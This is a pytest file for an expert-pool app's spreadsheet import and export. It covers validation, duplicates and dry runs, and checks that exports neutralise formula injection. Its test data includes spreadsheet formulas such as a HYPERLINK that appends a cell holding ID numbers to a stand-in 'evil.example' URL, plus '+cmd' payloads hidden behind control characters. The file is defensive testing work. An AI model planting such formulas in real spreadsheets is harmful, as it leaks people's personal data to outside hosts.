"""Import as the Office really has it, all or nothing; export that neutralises formula injection."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from sqlalchemy import func, select

from expert_pool.models import Expert, Organization
from tests.conftest import valid_id_number

ZH_HEADER = ["姓名", "性别", "身份证号", "手机", "电子邮箱", "工作单位", "单位类型", "职称", "专业领域", "所在省份", "城市",
             "聘期开始", "聘期结束"]
EN_HEADER = ["Name", "Gender", "ID number", "Mobile", "Email", "Organization", "Organization type", "Title",
             "Specialties", "Province", "City", "Term start", "Term end"]


def zh_row(n: int, **over):
    male = n % 2 == 0
    row = {"姓名": f"导入专家{n}", "性别": "男" if male else "女",
           "身份证号": valid_id_number("44", date(1968, 3, 1 + n % 27), male, 9000 + n),
           "手机": f"137{n:08d}", "电子邮箱": f"import{n}@example.cn", "工作单位": "华南理工大学",
           "单位类型": "高等院校", "职称": "教授", "专业领域": "循环经济；清洁生产", "所在省份": "广东省", "城市": "广州",
           "聘期开始": "2025-01-01", "聘期结束": "2029年12月31日"}
    row.update(over)
    return row


def csv_bytes(rows, header=ZH_HEADER, encoding="utf-8-sig"):
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=header, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue().encode(encoding)


def xlsx_bytes(rows, header=ZH_HEADER):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append([row.get(h) for h in header])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def upload(api, data: bytes, filename: str, dry_run: bool = False):
    return api.post("/experts/import", data={"file": (io.BytesIO(data), filename), "dry_run": str(dry_run).lower()},
                    content_type="multipart/form-data")


def expert_count(db):
    return db.session.scalar(select(func.count()).select_from(Expert))


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030"])
def test_csv_import_in_every_encoding(office_api, db, encoding):
    response = upload(office_api, csv_bytes([zh_row(i) for i in range(5)], encoding=encoding), "专家.csv")
    assert response.status_code == 201, response.json
    assert response.json["created"] == 5
    assert response.json["organizations_created"] == ["华南理工大学"]
    assert expert_count(db) == 5
    expert = db.session.scalar(select(Expert).where(Expert.name == "导入专家1"))
    assert expert.gender == "F" and expert.title_rank == "senior" and expert.province == "44"
    assert expert.specialty_codes == ["circular_economy", "cleaner_production"]
    assert expert.term_end == date(2029, 12, 31)
    assert expert.birth_year == 1968


def test_xlsx_import_with_english_headers(office_api, db):
    rows = []
    for i in range(3):
        zh = zh_row(i)
        rows.append(dict(zip(EN_HEADER, [zh[h] for h in ZH_HEADER], strict=True)))
        rows[-1]["Gender"] = "male" if i % 2 == 0 else "female"
        rows[-1]["Title"] = "senior"
        rows[-1]["Province"] = "Guangdong"
        rows[-1]["Specialties"] = "circular_economy, eia"
        rows[-1]["Term start"] = date(2025, 1, 1)  # a real Excel date cell
    response = upload(office_api, xlsx_bytes(rows, EN_HEADER), "experts.xlsx")
    assert response.status_code == 201, response.json
    assert expert_count(db) == 3


def test_one_bad_row_stores_none_and_every_problem_is_listed(api_as, db):
    english = api_as("office", lang="en")
    rows = [zh_row(i) for i in range(6)]
    rows[1]["身份证号"] = rows[1]["身份证号"][:-1] + ("0" if rows[1]["身份证号"][-1] != "0" else "1")
    rows[3]["专业领域"] = "占星术"
    rows[4]["手机"] = rows[2]["手机"]
    rows[5]["性别"] = "未知"
    response = upload(english, csv_bytes(rows), "bad.csv")
    assert response.status_code == 422
    body = response.json
    assert body["code"] == "import_invalid"
    issues = {(i["row"], i["field"]) for i in body["issues"]}
    # the header is row 1, so the n-th data row is row n + 2 for zero-based n
    assert {(3, "id_number"), (5, "specialties"), (6, "mobile"), (7, "gender")} <= issues
    assert all(i["message"] and i["column"] for i in body["issues"])
    assert next(i for i in body["issues"] if i["row"] == 6)["message"] == "Duplicates row 4."
    assert expert_count(db) == 0
    assert db.session.scalar(select(func.count()).select_from(Organization)) == 0


def test_duplicates_against_the_pool(office_api, make_expert, db):
    existing = make_expert()
    row = zh_row(1, 电子邮箱=existing.email.upper())
    response = upload(office_api, csv_bytes([row]), "dup.csv")
    assert response.status_code == 422
    assert [(i["row"], i["field"], i["code"]) for i in response.json["issues"]] == [(2, "email", "duplicate_in_pool")]
    assert expert_count(db) == 1


def test_dry_run_reports_and_stores_nothing(office_api, db):
    data = csv_bytes([zh_row(i) for i in range(4)])
    response = upload(office_api, data, "x.csv", dry_run=True)
    assert response.status_code == 200, response.json
    assert response.json == {"dry_run": True, "rows": 4, "created": 0, "organizations_created": ["华南理工大学"],
                             "issues": []}
    assert expert_count(db) == 0
    bad = upload(office_api, csv_bytes([zh_row(1, 手机="12345")]), "x.csv", dry_run=True)
    assert bad.status_code == 422 and bad.json["issues"][0]["field"] == "mobile"


@pytest.mark.parametrize("data, filename, code", [
    (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "experts.xlsx", "file_not_xlsx"),
    ("姓名,性别\n张三,男\n".encode("utf-16"), "experts.csv", "encoding_unsupported"),
    (b"", "experts.csv", "file_empty"),
])
def test_unreadable_files(office_api, db, data, filename, code):
    response = upload(office_api, data, filename)
    assert response.status_code == 422, response.json
    assert response.json["code"] == code
    assert expert_count(db) == 0


def test_a_files_and_a_rows_problems_read_in_the_callers_language(api_as, db):
    """The rules' messages (English msgids) reach the caller in their language; codes and details as always."""
    for lang, empty, mobile in (
            ("zh", "上传的文件是空的。", "手机号应为 11 位中国大陆手机号码，如 13800138000。"),
            ("en", "The uploaded file is empty.", "Enter an 11-digit mainland China mobile number, e.g. 13800138000.")):
        api = api_as("office", lang=lang)
        refused = upload(api, b"", "experts.csv")
        assert refused.status_code == 422
        assert (refused.json["code"], refused.json["message"], refused.json["errors"]) == (
            "file_empty", empty, {"file": [empty]})
        headers = upload(api, csv_bytes([{"姓名": "x", "籍贯": "y"}], header=["姓名", "籍贯"]), "x.csv")
        assert headers.json["code"] == "unknown_column" and headers.json["details"]["unknown"] == ["籍贯"]
        bad = upload(api, csv_bytes([zh_row(1, 手机="12345")]), "x.csv", dry_run=True)
        issue = bad.json["issues"][0]
        assert (issue["code"], issue["message"]) == ("mobile_invalid", mobile)
        assert issue["column"] == ("手机" if lang == "zh" else "Mobile")  # the template's header, data
    assert expert_count(db) == 0


def test_missing_file_field(office_api):
    response = office_api.post("/experts/import", data={"dry_run": "true"}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "file" in response.json["errors"]


def test_province_import_is_contributed_by_the_province(api_as, db):
    guangdong = api_as("province", province="44")
    assert upload(guangdong, csv_bytes([zh_row(1)]), "x.csv").status_code == 201
    assert db.session.scalar(select(Expert.contributed_by)) == "44"
    park = api_as("expert", expert_id=db.session.scalar(select(Expert.id)))
    assert upload(park, csv_bytes([zh_row(2)]), "x.csv").status_code == 403


def test_export_neutralises_formulas_and_masks_for_provinces(office_api, api_as, make_expert, db):
    make_expert(name="=HYPERLINK(\"http://evil\")", city="+cmd")
    csv_export = office_api.get("/experts/export?format=csv")
    assert csv_export.status_code == 200
    assert csv_export.data.startswith(b"\xef\xbb\xbf")
    text = csv_export.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "姓名"
    assert rows[1][0].startswith("'=") and "'+cmd" in rows[1]
    expert = db.session.scalar(select(Expert))
    assert expert.id_number in text  # the Office sees it whole

    xlsx = api_as("province", province="32").get("/experts/export?format=xlsx&lang=en")
    assert xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active
    values = [c.value for c in sheet[2]]
    assert sheet["A1"].value == "Name"
    assert values[0].startswith("'=")
    assert expert.id_number not in values and any("*" in str(v) for v in values)


def test_a_formula_hidden_behind_a_control_character_stays_text_in_the_offices_export(office_api, make_expert, db):
    # Red-team finding: a city "\u0001=HYPERLINK(...)" was neutralised first and stripped of its control
    # character afterwards, leaving a live formula beside unmasked ID numbers.
    make_expert(city="\u0001=HYPERLINK(\"http://evil.example/?\"&D2,\"x\")", name="\u200b+cmd")
    expert = db.session.scalar(select(Expert))
    for fmt in ("xlsx", "csv"):
        data = office_api.get(f"/experts/export?format={fmt}").data
        if fmt == "xlsx":
            sheet = openpyxl.load_workbook(io.BytesIO(data)).active
            cells = {c.value: c for c in sheet[2]}
            city = next(c for v, c in cells.items() if isinstance(v, str) and "HYPERLINK" in v)
            name = sheet["A2"]
            assert expert.id_number in cells  # the Office's export: unmasked, so the stakes are real
            assert all(c.data_type != "f" for c in sheet[2])
        else:
            row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
            city = next(v for v in row if "HYPERLINK" in v)
            name = row[0]
        city_text = city if isinstance(city, str) else city.value
        name_text = name if isinstance(name, str) else name.value
        assert city_text == "'=HYPERLINK(\"http://evil.example/?\"&D2,\"x\")" and name_text == "'+cmd", fmt


def test_export_then_reimport_round_trip(office_api, make_expert, db):
    for _ in range(3):
        make_expert()
    exported = office_api.get("/experts/export?format=xlsx").data
    originals = {e.id_number: (e.name, e.email, e.specialty_codes) for e in db.session.scalars(select(Expert))}
    # The export re-imports cleanly once the pool no longer has those experts: check with a dry run on
    # a changed copy is impossible here, so check that every row parses and is reported as a duplicate.
    response = upload(office_api, exported, "export.xlsx", dry_run=True)
    assert response.status_code == 422
    assert {i["code"] for i in response.json["issues"]} == {"duplicate_in_pool"}
    assert len({i["row"] for i in response.json["issues"]}) == len(originals)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_template_parses_and_imports(office_api, db, fmt):
    template = office_api.get(f"/experts/import-template?format={fmt}")
    assert template.status_code == 200
    assert "attachment" in template.headers["Content-Disposition"]
    response = upload(office_api, template.data, f"template.{fmt}")
    assert response.status_code == 201, response.json
    assert expert_count(db) == 1


def test_a_province_dry_run_of_a_two_million_cell_row_is_a_quick_bilingual_422(api_as, monkeypatch):
    # Red-team item 5: a 229 KB workbook of one 2,000,000-cell row held a worker for 50 s and 2 GB. It is refused
    # before openpyxl parses anything (the bound is checked on the zip's directory and the sheet's first bytes).
    from expert_pool.rules.tabular import xlsx
    from tests.expert_pool.test_tabular import wide_row_workbook

    def no_parse(*args, **kwargs):
        raise AssertionError("parsed")

    monkeypatch.setattr(xlsx, "load_workbook", no_parse)
    data = wide_row_workbook(2_000_000)
    for lang, words in (("zh", "列"), ("en", "columns")):
        response = upload(api_as("province", lang=lang, province="32"), data, "x.xlsx", dry_run=True)
        assert response.status_code == 422, response.json
        assert response.json["code"] in ("too_many_columns", "file_too_large")
        assert response.json["errors"]["file"] and (words in response.json["message"]
                                                    or response.json["code"] == "file_too_large")
